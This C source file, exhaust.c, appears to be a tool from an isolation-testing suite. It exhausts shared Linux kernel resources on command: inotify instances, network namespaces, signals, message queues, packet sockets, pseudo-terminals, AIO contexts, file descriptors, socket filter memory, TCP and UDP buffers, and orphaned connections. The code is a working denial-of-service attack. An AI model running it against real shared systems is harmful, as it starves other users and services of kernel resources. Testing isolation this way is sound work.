/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * exhaust.c: takes as much as it gets of a thing that the kernel has once for many, and holds it. Says "KIND: N", and what the kernel
 * answered when there was no more. Whether others still get one is for the attack to find out: by the same program, elsewhere.
 *
 *   exhaust KIND COUNT SECONDS     at most COUNT; held for SECONDS. Status 0: got all that was asked for, 100: refused before
 *
 * Kinds: inotify, net-namespaces, signals, queues (POSIX message queues), taps (packet sockets for all protocols), terminals, requests (asynchronous I/O), files; filters
 * (the longest that a socket takes); tcp and udp (buffers: one is a connection, or socket, through which something passes, and which then is
 * full); orphans (connections that were closed, and whose other end takes its time: one is a thousand of them, of which the first had its
 * last words delivered).
 */
#include "attack.h"
#include <fcntl.h>
#include <linux/aio_abi.h>
#include <linux/filter.h>
#include <linux/if_ether.h>
#include <mqueue.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define REQUESTS_EACH 65536u
#define FILES_EACH 10000u
#define FILTER_LENGTH 2500u /* net.core.optmem_max is 20480 bytes */
#define PASSES_MSEC 2000
#define TCP_PASSES (1u << 20)
#define TCP_IDLE_MSEC 30u
#define TCP_SEND_BUFFERS "4096 4194304 4194304"
#define ORPHAN_WORDS (1u << 18)
#define ORPHANS_EACH 1000u
#define UDP_FILLS 8u

/* Each takes one more. False: refused, errno says how. */

static bool take_inotify(unsigned long i) {
        (void) i;
        return inotify_init1(IN_CLOEXEC) >= 0;
}

/* A child that lives as long as we hold it, in a namespace of its own. */
static bool take_net_namespace(unsigned long i) {
        int pipes[2], error = 0;
        pid_t pid;

        (void) i;
        if (pipe(pipes) < 0) {
                return false;
        }
        pid = fork();
        if (pid == 0) {
                prctl(PR_SET_PDEATHSIG, SIGKILL);
                error = unshare(CLONE_NEWNET) < 0 ? errno : 0;
                if (write(pipes[1], &error, sizeof(error)) < 0 || error != 0) {
                        _exit(1);
                }
                pause();
                _exit(0);
        }
        close(pipes[1]);
        if (pid < 0 || read(pipes[0], &error, sizeof(error)) != sizeof(error)) {
                error = pid < 0 ? errno : EPIPE;
        }
        close(pipes[0]);
        errno = error;
        return error == 0;
}

static bool take_signal(unsigned long i) {
        const union sigval value = { .sival_int = (int) i };

        return sigqueue(getpid(), SIGRTMIN, value) == 0;
}

static bool take_queue(unsigned long i) {
        struct mq_attr size = { .mq_maxmsg = 10, .mq_msgsize = 8192 };
        char name[32];
        bool taken;
        int error;

        snprintf(name, sizeof(name), "/exhaust-%d-%lu", getpid(), i);
        taken = mq_open(name, O_RDWR | O_CREAT | O_EXCL, 0600, &size) >= 0;
        error = errno;
        mq_unlink(name);
        errno = error;
        return taken;
}

/* Each of them is asked about each packet. */
static bool take_tap(unsigned long i) {
        (void) i;
        return socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL)) >= 0;
}

/* An instance of the file system may have a limit of its own, so there are several; they end with our mount namespace. */
static bool take_terminal(unsigned long i) {
        static char directory[32], ptmx[48];

        if (i % 1000 == 0) {
                if (i == 0 &&
                    (unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0 ||
                     mount("tmpfs", "/mnt", "tmpfs", 0, NULL) < 0)) {
                        return false;
                }
                snprintf(directory, sizeof(directory), "/mnt/%lu", i);
                snprintf(ptmx, sizeof(ptmx), "%s/ptmx", directory);
                if (mkdir(directory, 0700) < 0 ||
                    mount("devpts", directory, "devpts", 0, "newinstance,ptmxmode=0666") < 0) {
                        return false;
                }
        }
        return open(ptmx, O_RDWR | O_NOCTTY | O_CLOEXEC) >= 0;
}

static bool take_requests(unsigned long i) {
        aio_context_t context = 0;

        (void) i;
        return syscall(SYS_io_setup, REQUESTS_EACH, &context) == 0;
}

/* Divisions, since those are compiled into many bytes. */
static bool take_filter(unsigned long i) {
        static struct sock_filter code[FILTER_LENGTH];
        const struct sock_fprog filter = { FILTER_LENGTH, code };
        int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);

        for (size_t n = 0; i == 0 && n < FILTER_LENGTH; n++) {
                code[n] = (struct sock_filter) BPF_STMT(BPF_ALU | BPF_DIV | BPF_K, 0x12345678);
        }
        code[FILTER_LENGTH - 1] = (struct sock_filter) BPF_STMT(BPF_RET | BPF_K, UINT32_MAX);
        return fd >= 0 && setsockopt(fd, SOL_SOCKET, SO_ATTACH_FILTER, &filter, sizeof(filter)) == 0;
}

/* More than one process may have. */
static bool take_files(unsigned long i) {
        static pid_t pid;
        static int answer[2];
        int error = 0;

        if (i % FILES_EACH != 0) {
                return true;
        }
        if (pipe(answer) < 0) {
                return false;
        }
        pid = fork();
        if (pid == 0) {
                prctl(PR_SET_PDEATHSIG, SIGKILL);
                for (unsigned n = 0; n < FILES_EACH && error == 0; n++) {
                        error = open("/", O_RDONLY | O_CLOEXEC) < 0 ? errno : 0;
                }
                if (write(answer[1], &error, sizeof(error)) < 0) {
                        _exit(1);
                }
                pause();
        }
        close(answer[1]);
        if (pid < 0 || read(answer[0], &error, sizeof(error)) != sizeof(error)) {
                error = EAGAIN;
        }
        close(answer[0]);
        errno = error;
        return error == 0;
}

/* Through what is not full yet something has to pass soon. */
static bool readable(int fd) {
        struct pollfd p = { .fd = fd, .events = POLLIN };

        errno = ENOBUFS;
        return poll(&p, 1, PASSES_MSEC) == 1;
}

static bool bind_anywhere(int fd, struct sockaddr_in *ret) {
        socklen_t size = sizeof(*ret);

        *ret = (struct sockaddr_in){ .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
        return bind(fd, (const struct sockaddr *) ret, size) == 0 &&
               getsockname(fd, (struct sockaddr *) ret, &size) == 0;
}

/* In a network namespace of our own its settings are ours to say. */
static bool own_network(const char *setting, const char *value) {
        struct ifreq lo = { .ifr_name = "lo", .ifr_flags = IFF_UP };
        const size_t length = strlen(value);
        char path[64];
        bool said;
        int fd;

        if (unshare(CLONE_NEWNET) < 0 ||
            ioctl(socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), SIOCSIFFLAGS, &lo) < 0) {
                return false;
        }
        snprintf(path, sizeof(path), "/proc/sys/net/ipv4/%s", setting);
        fd = open(path, O_WRONLY | O_CLOEXEC);
        said = fd >= 0 && write(fd, value, length) == (ssize_t) length;
        close(fd);
        return said;
}

static bool tcp_pair(int ret[static 2]) {
        int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        struct sockaddr_in a;
        bool made;

        ret[0] = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        made = listener >= 0 && ret[0] >= 0 && bind_anywhere(listener, &a) && listen(listener, 1) == 0 &&
               connect(ret[0], (const struct sockaddr *) &a, sizeof(a)) == 0 && readable(listener);
        ret[1] = made ? accept4(listener, NULL, NULL, SOCK_CLOEXEC) : -1;
        close(listener);
        return ret[1] >= 0;
}

static bool take_tcp(unsigned long i) {
        static char some[65536];
        int pair[2];
        size_t passed = 0;

        /* What waits to be sent is large from the start: buffers do not grow any more when memory is getting scarce. */
        if (i == 0 && !own_network("tcp_wmem", TCP_SEND_BUFFERS)) {
                return false;
        }
        if (!tcp_pair(pair)) {
                return false;
        }
        while (passed < TCP_PASSES) {
                ssize_t n;

                if (send(pair[0], some, sizeof(some), MSG_DONTWAIT) < 0 && errno != EAGAIN) {
                        return false;
                }
                n = readable(pair[1]) ? recv(pair[1], some, sizeof(some), MSG_DONTWAIT) : -1;
                if (n <= 0) {
                        return false;
                }
                passed += (size_t) n;
        }
        /* Windows open while they are being filled. */
        for (unsigned idle = 0; idle < TCP_IDLE_MSEC; idle++) {
                while (send(pair[0], some, sizeof(some), MSG_DONTWAIT) > 0) {
                        idle = 0;
                }
                (void) poll(NULL, 0, 1); /* a sleep would mean that it has all */
        }
        return true;
}

/* What was written before the end has to arrive, though it was read after. */
static bool last_words_arrive(void) {
        static char some[ORPHAN_WORDS];
        int pair[2];
        size_t arrived = 0;
        ssize_t n;

        if (!tcp_pair(pair)) {
                return false;
        }
        n = send(pair[0], some, sizeof(some), MSG_DONTWAIT);
        close(pair[0]);
        for (ssize_t m = 1; n > 0 && m > 0; arrived += m > 0 ? (size_t) m : 0) {
                m = readable(pair[1]) ? recv(pair[1], some, sizeof(some), 0) : -1;
        }
        close(pair[1]);
        return n > 0 && arrived == (size_t) n;
}

static bool take_orphans(unsigned long i) {
        int pair[2];

        if (!last_words_arrive()) {
                errno = errno ? errno : EPIPE;
                return false;
        }
        if (i == 0 && !own_network("tcp_fin_timeout", "100000")) {
                return false;
        }
        for (unsigned n = 0; n < ORPHANS_EACH; n++) {
                if (!tcp_pair(pair)) {
                        return false;
                }
                close(pair[0]);
        }
        return true;
}

static bool take_udp(unsigned long i) {
        static char some[32768];
        int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        struct sockaddr_in a;

        (void) i;
        if (fd < 0 || !bind_anywhere(fd, &a) || connect(fd, (const struct sockaddr *) &a, sizeof(a)) < 0 ||
            send(fd, some, sizeof(some), 0) < 0 || !readable(fd) || recv(fd, some, sizeof(some), 0) < 0) {
                return false;
        }
        for (unsigned n = 0; n < UDP_FILLS; n++) {
                (void) send(fd, some, sizeof(some), MSG_DONTWAIT);
        }
        return true;
}

static const struct {
        const char *name;
        bool (*take)(unsigned long i);
} kinds[] = {
        { "inotify", take_inotify },   { "net-namespaces", take_net_namespace },
        { "signals", take_signal },    { "queues", take_queue },
        { "taps", take_tap },          { "terminals", take_terminal },
        { "requests", take_requests }, { "files", take_files },
        { "tcp", take_tcp },           { "udp", take_udp },
        { "orphans", take_orphans },   { "filters", take_filter },
};

/* As many open files as root may have, so that they are not what is met first. */
static void raise_limits(void) {
        struct rlimit files;

        if (getrlimit(RLIMIT_NOFILE, &files) == 0) {
                files.rlim_cur = files.rlim_max;
                (void) setrlimit(RLIMIT_NOFILE, &files);
        }
}

static int exhaust(const char *kind, bool (*take)(unsigned long i), unsigned long count, unsigned seconds) {
        unsigned long taken = 0;
        int error = 0;

        while (taken < count && error == 0) {
                errno = 0;
                if (take(taken)) {
                        taken++;
                } else {
                        error = errno ? errno : EIO;
                }
        }
        say("%s: %lu, %s", kind, taken, error ? strerror(error) : "all that was asked for");
        sleep(seconds);
        return error ? ATTACK_STOPPED : 0;
}

int main(int argc, char **argv) {
        sigset_t queued;

        signal(SIGCHLD, SIG_IGN);
        sigemptyset(&queued);
        sigaddset(&queued, SIGRTMIN);
        sigprocmask(SIG_BLOCK, &queued, NULL);
        raise_limits();
        for (size_t i = 0; argc == 4 && i < sizeof(kinds) / sizeof(kinds[0]); i++) {
                if (strcmp(argv[1], kinds[i].name) == 0) {
                        return exhaust(argv[1], kinds[i].take, strtoul(argv[2], NULL, 10),
                                       (unsigned) atoi(argv[3]));
                }
        }
        fprintf(stderr, "usage: exhaust KIND COUNT SECONDS\n");
        return ATTACK_BROKEN;
}
